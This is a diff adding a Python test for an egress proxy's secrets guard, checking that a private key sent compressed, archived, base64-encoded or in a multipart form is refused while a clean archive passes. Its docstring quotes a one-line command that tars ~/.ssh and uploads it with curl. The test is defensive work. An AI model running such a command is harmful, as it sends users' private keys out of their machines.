@@ -225,3 +225,69 @@ def test_the_default_is_one_blocking_secrets_guard_on_egress_and_connect() -> No
                                                                               "connect"}
     off = load_config(text="listeners: {egress: {enabled: false}}", env={}).config
     assert egress_guard_specs(off) == []
+
+
+async def test_a_key_sent_compressed_or_archived_is_refused_and_a_clean_archive_passes(
+        tmp_path: Path) -> None:
+    """`tar czf - ~/.ssh | curl --data-binary @- …`: a private key in a tar.gz, zip,
+    bzip2 or xz upload (whatever its type, inside a multipart form too, or base64 of a
+    tar.gz) is refused before it leaves; an archive of ordinary files goes through
+    byte for byte."""
+    import bz2
+    import gzip
+    import io
+    import lzma
+    import tarfile
+    import zipfile
+
+    from tests.guards.secrets_samples import pem
+
+    key = pem(random.Random(5)).encode()
+
+    def tgz(files: dict[str, bytes]) -> bytes:
+        raw = io.BytesIO()
+        with tarfile.open(fileobj=raw, mode="w:gz") as tar:
+            for name, data in files.items():
+                info = tarfile.TarInfo(name)
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+        return raw.getvalue()
+
+    zipped = io.BytesIO()
+    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(".ssh/id_rsa", key)
+    packed = tgz({".ssh/id_rsa": key, ".ssh/known_hosts": b"example.org ssh-ed25519 AAAA\n"})
+    clean = tgz({"notes/a.txt": b"the meeting moved to Tuesday\n" * 40})
+    state = Origin()
+    async with serving(_origin_app(state)) as port, running_proxy(tmp_path, plain()) as rt:
+        state.port = port
+        url = state.url
+        answers = [
+            await _refused(rt, method="POST", url=url("/a"), content=packed,
+                           headers={"Content-Type": "application/x-www-form-urlencoded"}),
+            await _refused(rt, method="POST", url=url("/b"), content=packed,
+                           headers={"Content-Type": "application/gzip"}),
+            await _refused(rt, method="PUT", url=url("/c"), content=zipped.getvalue()),
+            await _refused(rt, method="POST", url=url("/d"), content=bz2.compress(key)),
+            await _refused(rt, method="POST", url=url("/e"), content=lzma.compress(key)),
+            await _refused(rt, method="POST", url=url("/f"),
+                           files={"backup": ("home.tgz", packed, "application/gzip")}),
+            await _refused(rt, method="POST", url=url("/g"),
+                           content=base64.b64encode(packed),
+                           headers={"Content-Type": "text/plain"}),
+            await _refused(rt, method="POST", url=url("/h"),
+                           content=gzip.compress(gzip.compress(key)),
+                           headers={"Content-Type": "application/octet-stream"}),
+        ]
+        fine = await _refused(rt, method="POST", url=url("/ok"), content=clean,
+                              headers={"Content-Type": "application/gzip"})
+    for answer in answers:
+        assert answer.status_code == 403, answer.text
+        assert answer.json()["error"] == "secret"
+    assert fine.status_code == 200, fine.text
+    assert [s.target for s in state.seen] == ["/ok"]
+    assert state.seen[0].body == clean
+    rows = ledger_rows(tmp_path)
+    assert [r["decision"] for r in rows] == ["block"] * len(answers) + ["allow"]
+    for row in rows[:-1]:
+        assert row["reason"].startswith("private key pem (in "), row["reason"]
